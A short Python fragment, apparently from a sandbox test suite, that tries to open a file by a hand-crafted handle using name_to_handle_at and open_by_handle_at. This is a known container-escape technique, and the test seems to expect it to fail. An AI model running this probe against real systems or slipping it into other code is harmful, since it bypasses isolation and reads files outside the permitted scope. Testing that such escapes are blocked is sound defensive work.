# Opens files by their handles, which mounts do not hide; needs a right that nobody here may have.
import ctypes
import os

handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + b"\x02\0\0\0\0\0\0\0" + bytes(120))
mount = ctypes.c_int()
attempt("name_to_handle_at", syscall, "name_to_handle_at", -100, b"/usr", handle, ctypes.byref(mount), 0)
attempt("open_by_handle_at", syscall, "open_by_handle_at", os.open(".", os.O_RDONLY), handle, 0)
